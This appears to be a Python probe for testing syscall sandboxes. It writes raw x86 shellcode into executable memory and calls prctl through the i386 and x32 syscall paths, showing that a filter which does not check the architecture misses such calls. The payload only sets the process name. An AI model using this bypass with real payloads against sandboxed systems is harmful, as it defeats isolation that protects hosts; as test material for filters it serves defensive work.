"""Call the kernel by another architecture's numbers: a filter that forgets to check is blind.

The call sets this process's name, which shows from outside.
"""

import ctypes
import mmap
import platform
import struct

_PR_SET_NAME = 15
_MAP_32BIT = 0x40


def attack(alias, abi):
    if platform.machine() != "x86_64":
        raise OSError("this machine has no other architecture's numbers")
    kind = mmap.MAP_PRIVATE | mmap.MAP_ANONYMOUS | _MAP_32BIT
    rwx = mmap.PROT_READ | mmap.PROT_WRITE | mmap.PROT_EXEC
    area = mmap.mmap(-1, 4096, flags=kind, prot=rwx)
    address = ctypes.addressof(ctypes.c_char.from_buffer(area))
    name = alias.encode() + b"\0"
    area[2048 : 2048 + len(name)] = name
    code = _i386(address + 2048) if abi == "i386" else _x32(address + 2048)
    area[: len(code)] = code
    return ctypes.CFUNCTYPE(ctypes.c_long)(address)()


def _i386(name):
    # push rbx; mov eax, 172 (prctl); mov ebx, 15; mov ecx, name; int 0x80; pop rbx; ret
    words = struct.pack("<BIBIBI", 0xB8, 172, 0xBB, _PR_SET_NAME, 0xB9, name)
    return b"\x53" + words + b"\xcd\x80\x5b\xc3"


def _x32(name):
    # mov eax, x32 | 157 (prctl); mov edi, 15; mov esi, name; syscall; ret
    words = struct.pack("<BIBIBI", 0xB8, 0x40000000 | 157, 0xBF, _PR_SET_NAME, 0xBE, name)
    return words + b"\x0f\x05\xc3"
